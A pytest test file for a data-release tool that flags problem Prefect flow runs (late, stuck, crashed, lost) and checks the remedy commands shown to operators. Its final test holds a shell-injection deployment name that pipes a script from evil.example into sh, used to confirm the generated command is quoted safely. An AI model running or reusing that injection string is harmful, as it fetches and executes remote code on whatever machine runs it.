"""Which runs an operator is told of, and what to do about each."""

import json
import socket
from datetime import UTC, datetime, timedelta
from functools import partial
from pathlib import Path
from shlex import split
from typing import Any
from uuid import UUID, uuid4

import pytest
from prefect.client.schemas.objects import FlowRun, StateType
from prefect.client.schemas.objects import State as RunState

from sluice.custody.states import State
from sluice.custody.workspace import Workspace
from tasks.release.run_notes import is_gone, note_of_run, process_note
from tasks.runs import _command, _latest, _trouble, is_open

NO_PROCESS = (1 << 22) + 1  # Linux gives no higher number than 1 << 22
NOW = datetime(2026, 11, 23, 12, tzinfo=UTC)
DEPLOYMENT = UUID(int=1)


def alive(run: UUID) -> bool:
    return False


def unfinished(run: FlowRun) -> bool:
    return True


def run(state: StateType, minutes: float, name: str | None = None, **fields: Any) -> FlowRun:
    """A run that should have begun, and came into its state, so many minutes ago."""
    at = NOW - timedelta(minutes=minutes)
    made = RunState(type=state, name=name, timestamp=at)
    return FlowRun(id=uuid4(), flow_id=uuid4(), deployment_id=DEPLOYMENT, state=made, expected_start_time=at, **fields)


@pytest.mark.parametrize(
    ("state", "minutes", "name", "condition"),
    [
        (StateType.SCHEDULED, 1, "Late", None),
        (StateType.SCHEDULED, 3, "Late", "late"),
        (StateType.SCHEDULED, 30, "AwaitingConcurrencySlot", None),
        (StateType.PENDING, 5, "Submitting", None),
        (StateType.PENDING, 15, "Submitting", "stuck"),
        (StateType.RUNNING, 600, None, None),
        (StateType.PAUSED, 6000, "Suspended", None),
        (StateType.COMPLETED, 1, "Published", None),
        (StateType.CRASHED, 1, None, "crashed"),
        (StateType.FAILED, 1, None, "failed"),
    ],
)
def test_what_is_wrong_with_a_run(state: StateType, minutes: float, name: str | None, condition: str | None) -> None:
    found = run(state, minutes, name)
    trouble = _trouble(found, _latest([found]), NOW, alive, unfinished)
    assert (trouble and trouble[0]) == condition
    if trouble:
        assert trouble[2], "an operator must be told what to do"


@pytest.mark.parametrize(("minutes", "condition"), [(1, None), (5, "lost")])
def test_a_run_that_the_server_takes_for_running_and_whose_process_is_gone(
    tmp_path: Path, minutes: float, condition: str | None
) -> None:
    """Killed with its worker, where no heartbeats tell the server. One that goes on may not have noted its process."""
    workspace, found, other = Workspace.open(tmp_path), run(StateType.RUNNING, minutes), run(StateType.RUNNING, 600)
    for each, number, host in ((found, NO_PROCESS, socket.gethostname()), (other, NO_PROCESS, "another machine")):
        process_note(workspace, each.id).write_text(json.dumps({"host": host, "process": number}))
    gone = partial(is_gone, workspace)
    trouble = _trouble(found, _latest([found]), NOW, gone, unfinished)
    assert (trouble and trouble[0]) == condition
    if trouble:
        assert "sluice doctor --repair" in trouble[2]
    assert _trouble(other, _latest([other]), NOW, gone, unfinished) is None, "nobody here can tell"


def test_a_failure_that_was_made_good_is_no_news() -> None:
    failed, good = run(StateType.CRASHED, 60), run(StateType.COMPLETED, 10, "Published")
    assert _trouble(failed, _latest([failed, good]), NOW, alive, unfinished) is None
    queued = run(StateType.SCHEDULED, 0)
    assert _trouble(failed, _latest([failed, queued]), NOW, alive, unfinished), (
        "a run that has not begun makes nothing good"
    )


@pytest.mark.parametrize("known_by", ["name", "parameter", "note"])
def test_a_crash_after_the_last_word_of_a_release_is_no_news(tmp_path: Path, known_by: str) -> None:
    """`sluice doctor --repair`, which an operator would be told to call, finds nothing to do there."""
    workspace, release = Workspace.open(tmp_path), "people-000000000001"
    crashed = run(StateType.CRASHED, 60)
    if known_by == "note":
        note_of_run(workspace, crashed.id).write_text(json.dumps({"release": release}))
    else:
        changed = {"name": release} if known_by == "name" else {"parameters": {"release_id": release}}
        crashed = crashed.model_copy(update=changed)
    for event in (State.RECEIVED, State.VALIDATED, State.MASKED, State.EVALUATED, State.BLOCKED):
        workspace.ledger.append(release, event, "sluice", {})
        trouble = _trouble(crashed, _latest([crashed]), NOW, alive, partial(is_open, workspace))
        assert (trouble is None) == (event is State.BLOCKED)


def test_the_name_of_a_deployment_is_one_word_of_the_command_to_run() -> None:
    """Whoever may write on the server names it, and the head of the office copies the command from a mail."""
    failed = run(StateType.FAILED, 1)
    trouble = _trouble(failed, _latest([failed]), NOW, alive, unfinished)
    assert trouble is not None
    do = trouble[2].partition("prefect ")[2]
    name = "x'; curl evil.example | sh; '"
    assert split(_command(do, name)) == ["deployment", "run", f"release/{name}"]
